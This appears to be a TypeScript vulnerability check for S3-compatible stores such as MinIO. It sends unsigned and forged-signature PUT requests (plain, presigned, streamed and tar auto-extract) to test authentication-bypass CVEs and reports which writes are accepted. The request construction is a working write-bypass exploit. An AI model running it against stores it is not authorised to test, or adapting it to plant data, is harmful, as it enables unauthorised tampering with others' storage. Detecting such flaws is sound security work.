import { randomUUID } from 'node:crypto';
import { crc32 } from 'node:zlib';

export interface ForgedWrite {
  name: string;
  /** Requires an access key's name. */
  needsKey: boolean;
  accepted: boolean;
}

const CONTENT = 'forged';
const TIMEOUT_MS = 10_000;

const CHECKSUM = Buffer.alloc(4);
CHECKSUM.writeUInt32BE(crc32(CONTENT));
const TRAILER = 'x-amz-checksum-crc32';
const CHUNKED = [CONTENT.length.toString(16), CONTENT, '0', `${TRAILER}:${CHECKSUM.toString('base64')}`, '', ''].join(
  '\r\n',
);
const UNSIGNED_TRAILER = 'STREAMING-UNSIGNED-PAYLOAD-TRAILER';
const STREAMED = {
  'x-amz-content-sha256': UNSIGNED_TRAILER,
  'x-amz-decoded-content-length': String(CONTENT.length),
  'x-amz-trailer': TRAILER,
  'content-encoding': 'aws-chunked',
};
const NO_SIGNATURE = '0'.repeat(64);
const SIGNED = `SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=${NO_SIGNATURE}`;

/**
 * Attempts writes with an access key but without its secret. MinIO before April 2026 accepts some: CVE-2026-40344
 * (archives) and CVE-2026-41145 (streams with a presigned URL). The caller removes them.
 * @param prefix of all written keys
 */
export async function forgeWrites(
  endpoint: string,
  accessKey: string,
  bucket: string,
  prefix = `forged-${randomUUID()}/`,
): Promise<ForgedWrite[]> {
  const time = new Date().toISOString().replace(/[-:]|\.\d+/g, '');
  const credential = `${accessKey}/${time.slice(0, 8)}/us-east-1/s3/aws4_request`;
  const signed = {
    authorization: `AWS4-HMAC-SHA256 Credential=${credential}, ${SIGNED}`,
    'x-amz-date': time,
  };
  const presigned = String(
    new URLSearchParams({
      'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
      'X-Amz-Credential': credential,
      'X-Amz-Date': time,
      'X-Amz-Expires': '600',
      'X-Amz-SignedHeaders': 'host',
      'X-Amz-Signature': NO_SIGNATURE,
    }),
  );
  const unread = { 'x-amz-content-sha256': 'UNSIGNED-PAYLOAD' };
  const archive = { 'x-amz-meta-snowball-auto-extract': 'true', 'x-amz-content-sha256': UNSIGNED_TRAILER };

  const forged: [name: string, headers: Record<string, string>, query: string, body: string | Buffer<ArrayBuffer>][] = [
    ['without a signature', {}, '', CONTENT],
    ['with a wrong signature', { ...signed, ...unread }, '', CONTENT],
    ['with a wrong signature in the address', unread, presigned, CONTENT],
    ['streamed with a wrong signature', { ...signed, ...STREAMED }, '', CHUNKED],
    ['streamed with a wrong signature in the address', STREAMED, presigned, CHUNKED],
    ['as an archive with a wrong signature', { ...signed, ...archive }, '', tarOf(`${prefix}unpacked`)],
  ];
  return Promise.all(
    forged.map(async ([name, headers, query, body], index): Promise<ForgedWrite> => {
      const address = new URL(`/${bucket}/${prefix}${index}?${query}`, endpoint);
      const signal = AbortSignal.timeout(TIMEOUT_MS);
      // A store may close the connection instead.
      const accepted = await fetch(address, { method: 'PUT', headers, body, redirect: 'manual', signal }).then(
        ({ ok }) => ok,
        () => false,
      );
      return { name, needsKey: index > 0, accepted };
    }),
  );
}

function tarOf(name: string): Buffer<ArrayBuffer> {
  const header = Buffer.alloc(512);
  const fields: [text: string, offset: number][] = [
    [name.slice(0, 100), 0],
    ['0000644\0', 100],
    ['0000000\0', 108],
    ['0000000\0', 116],
    [`${CONTENT.length.toString(8).padStart(11, '0')}\0`, 124],
    [`${'0'.repeat(11)}\0`, 136],
    ['        0', 148],
    ['ustar\u000000', 257],
  ];
  for (const [text, offset] of fields) header.write(text, offset);
  const sum = header.reduce((total, byte) => total + byte, 0);
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  const content = Buffer.alloc(512);
  content.write(CONTENT);
  return Buffer.concat([header, content, Buffer.alloc(1024)]);
}
